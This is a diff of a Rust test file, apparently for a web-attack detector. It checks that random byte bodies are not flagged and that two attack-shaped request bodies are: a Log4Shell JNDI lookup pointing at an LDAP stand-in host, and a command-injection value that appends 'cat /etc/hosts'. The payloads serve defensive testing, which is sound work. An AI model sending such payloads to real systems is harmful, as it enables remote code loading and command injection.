@@ -154,7 +154,9 @@ fn bytes_that_are_no_text_have_no_shape() {
     for seed in 0..1_500u64 {
         let len = [24, 64, 320, 1_000, 4_096][seed as usize % 5];
         let bytes = random(seed, len);
-        let with = |body: Vec<u8>| request(&[("body", Cell::Text(body)), ("uri", Cell::Text(b"/submit".to_vec()))], 200, "ok", 1.0);
+        let with = |body: Vec<u8>| {
+            request(&[("body", Cell::Text(body)), ("uri", Cell::Text(b"/submit".to_vec()))], 200, "ok", 1.0)
+        };
         lines.push(with(bytes.clone()));
         lines.push(with([b"data=", &bytes[..]].concat()));
         lines.push(with([b"data=", escaped(&bytes).as_bytes()].concat()));
@@ -168,7 +170,8 @@ fn bytes_that_are_no_text_have_no_shape() {
     // What no chance makes is told from among them as well, and text in an old encoding is text.
     let bytes = random(7, 300);
     let lookup = [&b"a="[..], &bytes, b"${jndi:ldap://203.0.113.9:1389/x}"].concat();
-    let cmd = [&b"name="[..], &[0x83, 0x65, 0x83, 0x58, 0x83, 0x67].repeat(9), b"&ip=127.0.0.1;cat /etc/hosts"].concat();
+    let cmd =
+        [&b"name="[..], &[0x83, 0x65, 0x83, 0x58, 0x83, 0x67].repeat(9), b"&ip=127.0.0.1;cat /etc/hosts"].concat();
     for (body, want) in [(lookup, "web-attack-request/log4shell"), (cmd, "web-attack-request/cmd")] {
         let all = found(&[request(&[("body", Cell::Text(body))], 200, "", 1.0)]);
         assert_eq!(all.iter().map(Finding::code).collect::<Vec<_>>(), [want]);
